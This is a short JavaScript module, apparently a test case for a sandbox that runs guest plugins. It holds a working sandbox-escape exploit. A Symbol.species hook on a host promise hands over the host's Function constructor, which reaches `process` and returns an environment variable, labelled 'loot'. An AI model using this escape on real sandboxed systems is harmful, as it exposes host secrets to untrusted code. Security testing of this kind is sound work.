// Symbol.species of a host promise is given an executor that the host made.
// guard: a guest imports nothing
// harm: loot
// control: node
// says: process is not defined
module.exports = {
  metadata: { name: 'promise-species', cache: 0, match: { contextType: 'github', context: { 'page.attack': { equals: 'promise-species' } } } },
  run(context) {
    let take;
    const promise = cache.get('key');
    promise.constructor = {
      [Symbol.species]: function (executor) {
        take = executor.constructor('return process')();
        executor(() => {}, () => {});
      },
    };
    promise.then(() => {});
    return { type: 'text', content: take.env[context.page.variable] };
  },
};
